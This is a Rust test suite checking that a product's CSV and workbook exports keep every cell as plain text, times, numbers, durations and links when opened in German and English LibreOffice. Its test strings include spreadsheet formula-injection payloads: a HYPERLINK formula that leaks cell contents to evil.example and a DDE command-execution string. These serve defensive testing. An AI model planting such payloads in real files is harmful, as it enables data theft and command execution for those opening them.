//! Files as spreadsheets open them: every text stays the text it is, times are times, and numbers
//! are numbers, in a German and in an English LibreOffice.

use crate::support::libreoffice::{ENGLISH, GERMAN, Locale, Opened, Sheet, Value, open_in_both};
use jiff::tz::TimeZone;
use sevendesk::model::{FileFormat, Timestamp};
use sevendesk::server::table::{
    Cell, Column, FileContext, Kind, Row, TableFile, beginning, quoted_text,
};
use std::collections::BTreeMap;
use tokio::sync::OnceCell;

/// Texts that spreadsheets like to take for something else, and some that they leave alone.
const TEXTS: [&str; 104] = [
    // Phone numbers.
    "+49 170 1234567",
    "+491701234567",
    "0049 170 1234567",
    "0170 1234567",
    "0170/1234567",
    "0170-1234567",
    "(0170) 1234567",
    "+1 (202) 555-0143",
    "202-555-0143",
    "110",
    // Leading zeros, long numbers, and ids.
    "00123",
    "0",
    "007",
    "12345678901234567890",
    "4111111111111111",
    "0.10",
    "1E5",
    "12e3",
    "123E456",
    "1d5",
    "00000000-0000-0000-0000-000000000001",
    "conv_00000001",
    "6e8",
    // Formulas.
    "=1+1",
    "=SUM(A1:A9)",
    "@SUM(A1)",
    "+1",
    "-5",
    "--1",
    "-5 %",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
    "=cmd|' /C calc'!A0",
    "=\"quoted\"",
    "  =1+1",
    "\t=1+1",
    "\u{a0}=1",
    "＝1+1",
    "＋49",
    "－5",
    "＠SUM(A1)",
    "=",
    "-",
    "- a list",
    "+ more",
    "@lea",
    // Numbers in both languages.
    "1.5",
    "1,5",
    "1.000",
    "1,000",
    "1.000,50",
    "1,000.50",
    "1 000",
    "1\u{a0}000",
    "1'000",
    "10%",
    "10 %",
    "5 €",
    "$5",
    "€ 5,00",
    "(5)",
    " 5",
    "5 ",
    "½",
    "１２３",
    "١٢٣",
    // Dates, times, and fractions.
    "3/4",
    "1 1/2",
    "1-2",
    "1.2.",
    "1.2.2026",
    "27.11.2026",
    "11/27/2026",
    "2026-11-27",
    "2026-11-27 14:05:09",
    "2026-11-27T14:05:09Z",
    "27. November 2026",
    "November 27, 2026",
    "Friday, November 27, 2026",
    "5 Mai",
    "Jan 5",
    "Mar-26",
    "12:30",
    "12:30 PM",
    "26:05:00",
    // Truth values and errors.
    "TRUE",
    "false",
    "WAHR",
    "Falsch",
    "#N/A",
    "#DIV/0!",
    // What separates cells and lines.
    "a,b;c\td",
    "\"quoted\"",
    "say \"5\"",
    "'5",
    "Müller & Söhne <b>",
    "first line\nsecond line",
    "_x0041_",
    // Writing of all kinds.
    "Ada Okafor",
    "Żółć, naïve, Straße",
    "مرحبا 123",
    "日本語",
    "👩‍👩‍👧 1️⃣",
    "Order 66 came late again",
    "  two blanks  ",
];

/// Texts with characters that are not to be seen.
const CONTROL_CHARACTERS: [&str; 3] = ["bell\u{7}", "\u{1b}[31mred", "a\u{1}b"];

/// What CSV for Excel cannot quote: it begins a formula and has several lines.
const LINES_OF_FORMULA: [&str; 2] = ["=1+1\nsecond line", "-5\n-6"];

/// Times, and what a clock in Berlin shows: both changes of the clock, leap days, and ends of years.
const TIMES: [(&str, &str); 10] = [
    ("2026-03-29T00:59:59Z", "2026-03-29T01:59:59"),
    ("2026-03-29T01:00:00Z", "2026-03-29T03:00:00"),
    ("2026-10-25T00:59:59Z", "2026-10-25T02:59:59"),
    ("2026-10-25T01:00:00Z", "2026-10-25T02:00:00"),
    ("2026-12-31T22:59:59Z", "2026-12-31T23:59:59"),
    ("2026-12-31T23:00:00Z", "2027-01-01"),
    ("2028-02-28T23:00:00Z", "2028-02-29"),
    ("2026-11-27T13:05:09Z", "2026-11-27T14:05:09"),
    ("1970-01-01T00:00:00Z", "1970-01-01T01:00:00"),
    ("2026-05-04T10:00:00Z", "2026-05-04T12:00:00"),
];

const NUMBERS: [f64; 7] = [0.0, 1.5, -5.0, 0.1, 1_000.0, 1_234_567.25, 4_711.0];

/// Seconds, and what a spreadsheet makes of them.
const DURATIONS: [(i64, &str); 5] = [
    (0, "PT00H00M00S"),
    (59, "PT00H00M59S"),
    (3_600, "PT01H00M00S"),
    (93_909, "PT26H05M09S"),
    (3_600_000, "PT1000H00M00S"),
];

const LINKS: [&str; 3] = ["conv_1", "=1+1", "00123"];

/// The columns of the table of cases, in which each kind of cell has a column of its own.
const COLUMNS: [Column; 6] = [
    Column::new("text", Kind::Text),
    Column::new("time", Kind::Instant),
    Column::new("number", Kind::Number),
    Column::new("duration", Kind::Duration),
    Column::new("link", Kind::Link),
    Column::new("end", Kind::Text),
];

fn texts() -> Vec<String> {
    let long = ["=".to_owned() + &"1".repeat(300), "0".repeat(600), "\"".repeat(260) + "1"];
    let short = TEXTS.into_iter().chain(LINES_OF_FORMULA).chain(CONTROL_CHARACTERS);
    short.map(str::to_owned).chain(long).collect()
}

fn rows() -> Vec<Row> {
    let link =
        |text: &&str| Cell::Link { text: text.to_string(), path: "/conversations/c_1".to_owned() };
    let row = |(place, text): (usize, String)| {
        vec![
            text.into(),
            TIMES.get(place).map(|(utc, _)| at(utc)).into(),
            NUMBERS.get(place).map_or(Cell::Empty, |number| Cell::Number(*number)),
            DURATIONS.get(place).map_or(Cell::Empty, |(seconds, _)| Cell::Duration(*seconds)),
            LINKS.get(place).map_or(Cell::Empty, link),
            "end".into(),
        ]
    };
    texts().into_iter().enumerate().map(row).collect()
}

async fn draw(format: FileFormat) -> Vec<u8> {
    let zone = TimeZone::get("Europe/Berlin").unwrap();
    let context = FileContext { zone, origin: "https://desk.example.com".to_owned() };
    let mut file = TableFile::new(format, "cases", &COLUMNS, context).unwrap();
    rows().into_iter().for_each(|row| file.add(row));
    let mut bytes = beginning(format).as_bytes().to_vec();
    bytes.extend(file.take_chunk());
    bytes.extend(file.finish().await.unwrap());
    bytes
}

fn name(format: FileFormat) -> String {
    [format.name(), format.extension()].join(".")
}

/// The cases in one format, opened in one language.
struct Case {
    locale: Locale,
    format: FileFormat,
    sheet: Sheet,
}

impl Case {
    /// Returns the cells of a column below its name.
    fn column(&self, name: &str) -> impl Iterator<Item = &Opened> {
        let place = COLUMNS.iter().position(|column| column.name() == name).unwrap();
        self.sheet.iter().skip(1).map(move |row| &row[place])
    }

    fn about(&self) -> String {
        format!("{:?} in {}", self.format, self.locale.name)
    }
}

/// Opens the cases once for all tests: every format in both languages.
async fn cases() -> impl Iterator<Item = &'static Case> {
    static OPENED: OnceCell<Vec<Case>> = OnceCell::const_new();
    let opened = OPENED.get_or_init(async || {
        let mut files = BTreeMap::new();
        for format in FileFormat::ALL {
            files.insert(name(format), draw(format).await);
        }
        let mut cases = Vec::new();
        for (locale, mut opened) in open_in_both(files).await {
            let sheet = |format| (format, opened.remove(&name(format)).unwrap());
            let case = |(format, sheet)| Case { locale, format, sheet };
            cases.extend(FileFormat::ALL.map(sheet).map(case));
        }
        cases
    });
    opened.await.iter()
}

/// The cases in formats for spreadsheets.
async fn spreadsheets() -> impl Iterator<Item = &'static Case> {
    cases().await.filter(|case| case.format != FileFormat::Programs)
}

/// Whether a formula is nothing but texts in quotes.
fn is_constant(formula: &str) -> bool {
    // Of what is left without doubled quotes, every second part is outside of quotes.
    let quoted = formula.strip_prefix("of:=").unwrap_or_default().replace("\"\"", "");
    let mut outside = quoted.split('"').step_by(2);
    quoted.starts_with('"') && outside.all(|between| ["", "&"].contains(&between))
}

fn at(iso: &str) -> Timestamp {
    Timestamp(iso.parse::<jiff::Timestamp>().unwrap().as_second())
}

#[tokio::test]
async fn every_text_stays_the_text_it_is_in_each_format_for_spreadsheets() {
    for case in spreadsheets().await {
        assert_eq!(case.sheet.len(), texts().len() + 1, "{}", case.about());
        for (text, cell) in texts().iter().zip(case.column("text")) {
            let about = format!("“{text}” in {}", case.about());
            let is_workbook = case.format == FileFormat::Workbook;
            let apostrophe = !is_workbook && LINES_OF_FORMULA.contains(&text.as_str());
            // LibreOffice shows these characters, but cannot write them down.
            let text = text.replace(['\u{1}', '\u{7}', '\u{1b}'], "");
            let expected = if apostrophe { format!("'{text}") } else { text };
            assert_eq!(cell.value, Value::Text(expected), "{about}");
            let is_text = cell.formula.as_deref().is_none_or(is_constant);
            assert!(is_text && !(is_workbook && cell.formula.is_some()), "{about}: {cell:?}");
        }
        assert!(case.column("end").all(|cell| cell.value == Value::Text("end".to_owned())));
    }
}

#[tokio::test]
async fn no_text_becomes_a_formula_in_the_file_for_programs_either() {
    for case in cases().await.filter(|case| case.format == FileFormat::Programs) {
        for (text, cell) in texts().iter().zip(case.column("text")) {
            assert_eq!(cell.formula, None, "“{text}” in {}", case.about());
        }
    }
}

#[tokio::test]
async fn a_time_is_a_date_on_the_teams_clock_in_each_format_for_spreadsheets() {
    for case in spreadsheets().await {
        let heading = Value::Text("time (Europe/Berlin)".to_owned());
        assert_eq!(case.sheet[0][1].value, heading, "{}", case.about());
        for ((utc, local), cell) in TIMES.into_iter().zip(case.column("time")) {
            assert_eq!(cell.value, Value::Date(local.to_owned()), "{utc}, {}", case.about());
        }
    }
}

#[tokio::test]
async fn a_number_is_a_number_in_a_workbook_and_in_the_csv_of_its_language() {
    for case in spreadsheets().await {
        let language = match case.format {
            FileFormat::ExcelGerman => GERMAN,
            FileFormat::ExcelEnglish => ENGLISH,
            _ => case.locale,
        };
        for (number, cell) in NUMBERS.into_iter().zip(case.column("number")) {
            let is_number = cell.value == Value::Number(number);
            assert!(is_number || case.locale != language, "{number} is {cell:?}, {}", case.about());
        }
    }
}

#[tokio::test]
async fn a_duration_counts_hours_however_many() {
    for case in spreadsheets().await {
        for ((seconds, time), cell) in DURATIONS.into_iter().zip(case.column("duration")) {
            assert_eq!(cell.value, Value::Time(time.to_owned()), "{seconds} s, {}", case.about());
        }
    }
}

#[tokio::test]
async fn a_link_is_its_text_and_leads_to_its_page_from_a_workbook() {
    for case in spreadsheets().await {
        let address = "https://desk.example.com/conversations/c_1".to_owned();
        let leads = (case.format == FileFormat::Workbook).then_some(address);
        for (text, cell) in LINKS.into_iter().zip(case.column("link")) {
            assert_eq!(cell.value, Value::Text(text.to_owned()), "{}", case.about());
            assert_eq!(cell.link, leads, "{}", case.about());
        }
    }
}

#[test]
fn only_what_excel_would_change_is_quoted() {
    for text in
        ["Ada Okafor", "conv_1", "ada@example.com", "Order 66 came late again", "", "日本語"]
    {
        assert_eq!(quoted_text(text), text);
    }
    assert_eq!(quoted_text("0049"), "=\"0049\"");
    assert_eq!(quoted_text("=A1&\"x\""), "=\"=A1&\"\"x\"\"\"");
    let long = quoted_text(&"0".repeat(600)).into_owned();
    assert_eq!(long.split('&').map(str::len).max(), Some(253), "a constant has 255 units at most");
}
